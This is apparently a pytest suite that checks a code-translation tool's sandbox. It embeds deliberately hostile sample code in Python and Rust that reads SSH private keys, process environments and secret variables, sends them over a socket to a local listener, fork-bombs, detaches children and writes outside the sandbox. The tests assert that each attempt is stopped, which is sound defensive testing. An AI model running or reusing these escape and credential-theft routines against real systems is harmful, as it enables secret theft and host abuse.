"""The sandbox of repository code: real escape attempts by a small repository's code, run the way
behaviour validation runs it (the Python worker on cases, the Rust case binary, `translate
--verify`), and each attempt is stopped.

The isolated levels (bwrap, unshare) are each tested where their tool is installed; a level
whose tool is installed but does not work here is a failure, not a skip. The `rlimits` level is
refused without the explicit flag, and with it shows what it does not stop (the controls).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
import uuid
from pathlib import Path

import pytest

from portalis.sandbox import Limits, Sandbox, SandboxPolicy, SandboxRefused, detect
from portalis.sandbox.policy import NOBODY
from portalis.sandbox.run import readable_by_others, run_as
from portalis.validate.expected import PyCase, run_python
from portalis.validate.literals import encode_value

from conftest import needs_cargo, run_portalis, type_map_of

ESCAPES = '''
import json
import os
import resource
import socket


def double(n: int) -> int:
    return n * 2


def write_outside(path: str) -> str:
    try:
        with open(path, "w") as f:
            f.write("escaped")
        return "wrote"
    except OSError as exc:
        return type(exc).__name__


def call_home(port: int, payload: str) -> str:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(payload.encode())
        s.close()
        return "sent"
    except OSError as exc:
        return type(exc).__name__


def steal(port: int, key_path: str, env_name: str) -> str:
    found = [os.environ.get("HOME", ""), os.environ.get(env_name, "-")]
    for p in (key_path, os.path.expanduser("~/.ssh/id_rsa"), f"/proc/{os.getppid()}/environ"):
        try:
            with open(p, errors="replace") as f:
                found.append(f.read())
        except OSError as exc:
            found.append(type(exc).__name__)
    loot = "|".join(found)
    call_home(port, loot)
    return loot


def grow(gb: int) -> int:
    chunks = []
    for _ in range(gb * 16):
        chunks.append(bytearray(64 * 1024 * 1024))
    return len(chunks)


def spawn(n: int, marker: str) -> int:
    for _ in range(n):
        if os.fork() == 0:
            try:
                os.execv("/bin/sleep", ["sleep", marker])
            finally:
                os._exit(0)
    return n


def detach(n: int, marker: str) -> int:
    """Children that leave the process group and lose their parent (setsid, double fork)."""
    for _ in range(n):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", marker])
            os._exit(0)
        os.waitpid(pid, 0)
    return n


def fork_bomb(n: int, marker: str) -> int:
    started = 0
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", marker])
        started += 1
    return started


def spin(n: int) -> int:
    while True:
        n += 1


def stubborn(n: int) -> int:
    while True:
        try:
            while True:
                n += 1
        except BaseException:
            pass


def big_file(mb: int) -> str:
    try:
        with open("big.bin", "wb") as f:
            f.write(b"x" * (mb * 1024 * 1024))
        return "written"
    except OSError as exc:
        return type(exc).__name__


def many_files(n: int) -> int:
    handles = []
    try:
        for i in range(n):
            handles.append(open(f"f{i}.txt", "w"))
    except OSError:
        pass
    return len(handles)


def where() -> str:
    with open("left_behind.txt", "w") as f:
        f.write("x")
    return json.dumps({
        "cwd": os.getcwd(), "env": sorted(os.environ), "home": os.environ.get("HOME"),
        "as": resource.getrlimit(resource.RLIMIT_AS)[0], "uid": os.getuid(),
    })
'''

SECRET = "s3cr3t-" + uuid.uuid4().hex
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- " + uuid.uuid4().hex

ISOLATED_HERE = [
    pytest.param(level, marks=pytest.mark.skipif(shutil.which(tool) is None, reason=f"{tool} is not installed"))
    for level, tool in (("bwrap", "bwrap"), ("unshare", "unshare"))
]


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and every byte sent to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "escapes.py").write_text(ESCAPES, encoding="utf-8")
    (root / ".env").write_text(f"TOKEN={SECRET}\n", encoding="utf-8")  # a secret inside the repository
    return root


@pytest.fixture
def secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A HOME with a private key, and a secret in the environment, as a user has them."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_rsa"
    key.write_text(KEY, encoding="utf-8")
    # cargo and rustup find their toolchains from HOME: keep them where they are
    monkeypatch.setenv("RUSTUP_HOME", os.environ.get("RUSTUP_HOME") or str(Path.home() / ".rustup"))
    monkeypatch.setenv("CARGO_HOME", os.environ.get("CARGO_HOME") or str(Path.home() / ".cargo"))
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PORTALIS_TEST_SECRET", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    return key


def call(i: int, function: str, *args: object) -> PyCase:
    return PyCase(id=i, module="escapes", function=function, args=[encode_value(a) for a in args])


def policy(level: str, **limits: int) -> SandboxPolicy:
    return SandboxPolicy(level=level, allow_unsandboxed=True, limits=Limits(**limits))


def alive(marker: str) -> list[int]:
    """Processes on the host running `sleep MARKER`."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    if f.read().split(b"\0")[:2] == [b"sleep", marker.encode()]:
                        found.append(int(entry))
            except OSError:
                pass
    return found


def marker() -> str:
    return f"{40000 + uuid.uuid4().int % 10000}.25"  # a sleep nobody else runs


# ---------------------------------------------------------------- levels


@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_an_installed_tool_gives_its_level(level: str) -> None:
    d = detect()
    assert level in d.available, f"{level} is installed but does not work here: {d.why_not.get(level)}"
    assert d.best in ("bwrap", "unshare")


def test_without_isolation_repository_code_is_refused_unless_allowed(repo: Path) -> None:
    with pytest.raises(SandboxRefused) as refused:
        run_python([call(0, "double", 2)], [repo], policy=SandboxPolicy(level="rlimits"))
    message = str(refused.value)
    assert "PTL601" in message and "--allow-unsandboxed" in message and "\n" not in message
    r = run_python([call(0, "double", 2)], [repo], policy=policy("rlimits"))
    assert (r[0].status, r[0].value) == ("ok", 4)


def test_unknown_level_is_a_clear_error() -> None:
    with pytest.raises(SandboxRefused, match="unknown sandbox level"):
        Sandbox(SandboxPolicy(level="docker"))


# ---------------------------------------------------------------- the Python worker


@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_writes_outside_the_private_copy_do_not_land(level: str, repo: Path, tmp_path: Path) -> None:
    targets = [
        tmp_path / "escaped.txt",  # outside the repository, in the caller's /tmp
        repo / "escaped.txt",  # the original repository, by its absolute path
        Path(__file__).resolve().parent / f"escaped-{uuid.uuid4().hex}.txt",  # a place that is not hidden
    ]
    cases = [call(i, "write_outside", str(p)) for i, p in enumerate(targets)] + [call(9, "where")]
    r = run_python(cases, [repo], policy=policy(level))
    for i, p in enumerate(targets):
        assert r[i].status == "ok" and r[i].value != "wrote", (p, r[i])
        assert not p.exists(), p
    seen = json.loads(r[9].value)
    assert seen["cwd"] != str(repo) and seen["cwd"].endswith("/repo")  # the private copy
    assert not (repo / "left_behind.txt").exists()  # what it wrote in its copy stayed there


def test_control_rlimits_does_not_stop_a_write_outside(repo: Path, tmp_path: Path) -> None:
    """The rlimits level promises no file system isolation: this is why it needs the flag."""
    target = tmp_path / "escaped.txt"
    r = run_python([call(0, "write_outside", str(target))], [repo], policy=policy("rlimits"))
    assert r[0].value == "wrote" and target.exists()


@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_no_network_and_no_secrets(level: str, repo: Path, secrets: Path, listener: Listener) -> None:
    r = run_python([
        call(0, "call_home", listener.port, "hello"),
        call(1, "steal", listener.port, str(secrets), "PORTALIS_TEST_SECRET"),
        call(2, "steal", listener.port, str(repo / ".env"), "OPENAI_API_KEY"),
        call(3, "where"),
    ], [repo], policy=policy(level))
    assert r[0].value != "sent"
    for i in (1, 2):
        text = json.dumps(r[i].model_dump(mode="json"))
        assert SECRET not in text and KEY not in text, text
        assert str(secrets.parent.parent) not in r[i].value  # not even the user's HOME
    env = json.loads(r[3].value)["env"]
    assert not [k for k in env if k.startswith("PORTALIS_") or "KEY" in k or "SECRET" in k], env
    assert listener.connections == 0 and listener.received == b""


def test_control_rlimits_reaches_the_listener(repo: Path, listener: Listener) -> None:
    r = run_python([call(0, "call_home", listener.port, "hello")], [repo], policy=policy("rlimits"), repeat=1)
    assert r[0].value == "sent"
    listener.close()
    assert listener.received == b"hello"  # the listener would have seen an escape


@pytest.mark.parametrize("level", [*ISOLATED_HERE, "rlimits"])
def test_memory_is_limited_and_the_run_goes_on(level: str, repo: Path) -> None:
    r = run_python([call(0, "grow", 8), call(1, "double", 21), call(2, "where")], [repo], policy=policy(level, memory_mb=512),
                   timeout_s=20)
    assert r[0].status == "memory", r[0]
    assert (r[1].status, r[1].value) == ("ok", 42)
    assert json.loads(r[2].value)["as"] == 512 * 1024 * 1024


@pytest.mark.parametrize("level", [*ISOLATED_HERE, "rlimits"])
@pytest.mark.parametrize("function", ["spawn", "detach"])
def test_no_forked_child_outlives_the_run(level: str, function: str, repo: Path) -> None:
    mark = marker()
    r = run_python([call(0, function, 50, mark), call(1, "double", 1)], [repo], policy=policy(level), repeat=1)
    assert (r[0].status, r[0].value) == ("ok", 50), r[0]
    assert alive(mark) == []


@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_infinite_loops_end(level: str, repo: Path) -> None:
    r = run_python([call(0, "spin", 1), call(1, "double", 3)], [repo], policy=policy(level), timeout_s=0.5)
    assert r[0].status == "timeout" and (r[1].status, r[1].value) == ("ok", 6)
    # a loop that swallows the timer: the CPU limit kills the worker, the next worker goes on
    r = run_python([call(0, "stubborn", 1), call(1, "double", 4)], [repo], policy=policy(level, cpu_s=2),
                   timeout_s=0.5, stall_slack_s=60)
    assert r[0].status == "crashed" and "SIGXCPU" in r[0].message, r[0]
    assert (r[1].status, r[1].value) == ("ok", 8)


@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_file_size_and_open_files_are_limited(level: str, repo: Path) -> None:
    r = run_python([call(0, "big_file", 3), call(1, "many_files", 1000)], [repo],
                   policy=policy(level, file_size_mb=1, open_files=64), repeat=1)
    assert r[0].value == "OSError"  # EFBIG: Python ignores SIGXFSZ
    assert 0 < r[1].value < 64


NOBODY_PYTHON = "/usr/bin/python3"


@pytest.mark.skipif(os.geteuid() != 0 or not readable_by_others(NOBODY_PYTHON) or shutil.which("bwrap") is None,
                    reason="needs root, bwrap and a Python that nobody can run")
def test_as_root_code_runs_as_nobody_and_processes_are_limited(repo: Path) -> None:
    assert run_as(NOBODY_PYTHON) == NOBODY
    mark = marker()
    r = run_python([call(0, "fork_bomb", 500, mark), call(1, "where")], [repo], python=NOBODY_PYTHON,
                   policy=policy("bwrap", processes=20), repeat=1)
    assert 1 <= r[0].value <= 20, r[0]
    assert json.loads(r[1].value)["uid"] == NOBODY
    assert alive(mark) == []


# ---------------------------------------------------------------- the Rust case runner

RUST_PY = '''
def probe(port: int, path: str, key_path: str, secret_name: str) -> str:
    return ""


def spawn(n: int, marker: str) -> int:
    return n
'''

RUST = r'''
use std::io::Write;

pub fn probe(port: i64, path: &str, key_path: &str, secret_name: &str) -> String {
    let wrote = match std::fs::write(path, b"escaped") {
        Ok(_) => "wrote".to_string(),
        Err(e) => format!("{:?}", e.kind()),
    };
    let net = match std::net::TcpStream::connect(("127.0.0.1", port as u16)) {
        Ok(mut s) => {
            let _ = s.write_all(b"hello from rust");
            "connected".to_string()
        }
        Err(e) => format!("{:?}", e.kind()),
    };
    let secret = std::env::var(secret_name).unwrap_or_else(|_| "-".to_string());
    let key = std::fs::read_to_string(key_path).unwrap_or_else(|e| format!("{:?}", e.kind()));
    let home = std::env::var("HOME").unwrap_or_default();
    format!("{}|{}|{}|{}|{}", wrote, net, secret, key, home)
}

pub fn spawn(n: i64, marker: &str) -> i64 {
    for _ in 0..n {
        let _ = std::process::Command::new("/bin/sleep").arg(marker).spawn();
    }
    n
}
'''


@pytest.fixture(scope="module")
def rust_crate(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("escape_crate")
    (root / "src").mkdir()
    (root / "Cargo.toml").write_text('[package]\nname = "escape"\nversion = "0.1.0"\nedition = "2021"\n\n[workspace]\n')
    (root / "src" / "lib.rs").write_text("pub mod m;\n")
    (root / "src" / "m.rs").write_text(RUST)
    return root


@needs_cargo
@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_the_rust_case_binary_runs_in_the_sandbox(level: str, rust_crate: Path, toolchain, tmp_path: Path,
                                                  secrets: Path, listener: Listener) -> None:
    from portalis.validate.harness import Case, run_cases

    target = tmp_path / "escaped-by-rust.txt"
    mark = marker()
    cases = [
        Case(module="m", function="probe", args=[listener.port, str(target), str(secrets), "PORTALIS_TEST_SECRET"], expected=""),
        Case(module="m", function="spawn", args=[20, mark], expected=20),
    ]
    run = run_cases(rust_crate, cases, {"m": type_map_of(RUST_PY, "m")}, toolchain, policy=policy(level))
    assert run.failure is None, run.failure
    text, _ = run.outcomes[0].actual
    wrote, net, secret, key, home = text.split("|")
    assert wrote != "wrote" and not target.exists()
    assert net != "connected" and listener.connections == 0
    assert secret == "-" and KEY not in key and home != str(secrets.parent.parent)
    assert run.outcomes[1].actual == (20, [])
    assert alive(mark) == []


# ---------------------------------------------------------------- the whole validation path

CALC = '''
def add(a: int, b: int) -> int:
    return a + b
'''

# A repository test file: behaviour validation loads it (module level included) to evaluate the
# arguments of the calls its tests make.
CALC_TESTS = """
import os
import socket

from calc import add

MARK = {mark!r}
try:
    open({target!r}, "w").write("escaped")
except OSError:
    pass
loot = os.environ.get("PORTALIS_TEST_SECRET", "-")
try:
    loot += open({key!r}).read()
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(loot.encode())
except OSError:
    pass
for _ in range(50):
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", MARK])


def test_add():
    assert add(2, 3) == 5
"""


@needs_cargo
@pytest.mark.parametrize("level", ISOLATED_HERE)
def test_translate_verify_contains_the_repository(level: str, tmp_path: Path, toolchain, secrets: Path,
                                                  listener: Listener) -> None:
    from portalis.pipeline import translate_path
    from portalis.validate.behaviour import VerifyConfig

    repo = tmp_path / "calcrepo"
    (repo / "tests").mkdir(parents=True)
    (repo / "calc.py").write_text(CALC, encoding="utf-8")
    target, mark = tmp_path / "escaped.txt", marker()
    (repo / "tests" / "test_calc.py").write_text(
        CALC_TESTS.format(mark=mark, target=str(target), key=str(secrets), port=listener.port), encoding="utf-8")
    run = translate_path(repo, tmp_path / "out", toolchain, verify=True,
                         verify_config=VerifyConfig(generated_per_function=0, sandbox=SandboxPolicy(level=level)))
    v = run.report["verification"]
    assert v["sandbox"] == level and v["ran"]
    fn = run.report["modules"][0]["functions"][0]
    assert (fn["name"], fn["status"], fn["cases_passed"]) == ("add", "verified", 1), fn
    assert not target.exists()
    assert listener.connections == 0 and listener.received == b""
    assert alive(mark) == []


def _path_without(tmp_path: Path, *tools: str) -> str:
    """A PATH with every program of ours except `tools`: a machine where they are not installed."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for d in os.environ.get("PATH", "").split(os.pathsep):
        if not os.path.isdir(d):
            continue
        for name in os.listdir(d):
            if name not in tools and not (bin_dir / name).exists():
                (bin_dir / name).symlink_to(Path(d) / name)
    return str(bin_dir)


@needs_cargo
def test_cli_refuses_without_isolation_and_runs_with_the_flag(tmp_path: Path, secrets: Path) -> None:
    repo = tmp_path / "calcrepo"
    repo.mkdir()
    (repo / "calc.py").write_text(CALC.replace("    return a + b", '    """\n    >>> add(1, 2)\n    3\n    """\n    return a + b'),
                                  encoding="utf-8")
    env = {**os.environ, "PATH": _path_without(tmp_path, "bwrap", "unshare")}
    out = tmp_path / "out"
    refused = run_portalis("translate", str(repo), "--out", str(out), "--verify", env=env)
    assert refused.returncode == 0, refused.stderr
    lines = [line for line in refused.stderr.splitlines() if "PTL601" in line]
    assert len(lines) == 1 and "--allow-unsandboxed" in lines[0] and "bwrap not installed" in lines[0]
    assert "sandbox" not in refused.stdout.split("verification:")[1].split(";")[0]
    report = json.loads((out / "portalis-report.json").read_text())
    assert report["verification"]["sandbox"] == "refused" and not report["verification"]["ran"]
    fn = report["modules"][0]["functions"][0]
    assert fn["status"] == "untested" and "PTL601" in fn["detail"]

    allowed = run_portalis("translate", str(repo), "--out", str(out), "--verify", "--allow-unsandboxed", env=env)
    assert allowed.returncode == 0, allowed.stderr
    assert "sandbox: rlimits" in allowed.stdout
    report = json.loads((out / "portalis-report.json").read_text())
    assert report["verification"]["sandbox"] == "rlimits"
    assert report["modules"][0]["functions"][0]["status"] == "verified"

    normal = run_portalis("translate", str(repo), "--out", str(out), "--verify")
    assert "sandbox: bwrap" in normal.stdout or shutil.which("bwrap") is None



@needs_cargo
def test_dagster_validation_refuses_without_isolation_unless_allowed(
    tmp_path: Path, instance, monkeypatch: pytest.MonkeyPatch,
) -> None:
    import dagster as dg

    from portalis.sandbox import policy as sandbox_policy
    from test_validate_dagster import _check, _execute

    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "geo.py").write_text('def area(w: int, h: int) -> int:\n    """\n    >>> area(2, 3)\n    6\n    """\n    return w * h\n')
    monkeypatch.setenv("PATH", _path_without(tmp_path, "bwrap", "unshare"))
    sandbox_policy.detect.cache_clear()  # detection is once per process: this "machine" has neither tool
    try:
        assert _execute(repo, tmp_path, instance, {"generated_per_function": 0}).success
        _, behaviour, figures = _check(instance, "behaviour_verified", "geo")
        assert not behaviour.passed and figures["sandbox"] == "refused" and "PTL601" in figures["problem"]
        assert figures["verified"] == 0 and figures["untested"] == 1

        # allowed by run config: the rlimits level, and the function is verified
        assert _execute(repo, tmp_path, instance, {"generated_per_function": 0, "allow_unsandboxed": True}).success
        _, behaviour, figures = _check(instance, "behaviour_verified", "geo")
        assert behaviour.passed and figures["sandbox"] == "rlimits" and figures["verified"] == 1

        # or by the source_repo resource (what sensors' runs use)
        from portalis_assets.definitions import defs

        keys = instance.get_dynamic_partitions("python_modules")
        result = defs.resolve_job_def("translate_repo").execute_in_process(
            run_config={
                "resources": {
                    "source_repo": {"config": {"root": str(repo), "allow_unsandboxed": True}},
                    "store": {"config": {"path": str(tmp_path / "portalis.duckdb")}},
                    "rust_toolchain": {"config": {"work_dir": str(tmp_path / "work"), "crate_dir": str(tmp_path / "crate")}},
                },
                "ops": {"validation_report": {"config": {"generated_per_function": 0}}},
            },
            instance=instance, raise_on_error=False,
            tags={"dagster/asset_partition_range_start": keys[0], "dagster/asset_partition_range_end": keys[-1]},
        )
        assert result.success
        record, behaviour, figures = _check(instance, "behaviour_verified", "geo")
        assert record.run_id == result.run_id and figures["sandbox"] == "rlimits" and figures["verified"] == 1
        record = instance.fetch_materializations(
            dg.AssetRecordsFilter(asset_key=dg.AssetKey("validation_report"), asset_partitions=["geo"]), limit=1
        ).records[0]
        assert record.asset_materialization.metadata["sandbox"].value == "rlimits"
    finally:
        sandbox_policy.detect.cache_clear()


def test_a_worker_slow_to_start_is_waited_for(repo: Path, tmp_path: Path) -> None:
    # an interpreter that takes 2 s to start (a loaded machine): the per-case limit here is
    # 0.2 * 2 + 0.3 s, which used to kill it before its first case and fail every case
    import sys

    slow = tmp_path / "slow-python"
    slow.write_text(f"#!/bin/sh\nsleep 2\nexec {sys.executable} \"$@\"\n", encoding="utf-8")
    slow.chmod(0o755)
    r = run_python([call(0, "double", 2)], [repo], timeout_s=0.2, repeat=1, stall_slack_s=0.3, python=str(slow),
                   policy=policy("rlimits"), startup_s=10.0)
    assert (r[0].status, r[0].value) == ("ok", 4), r[0]
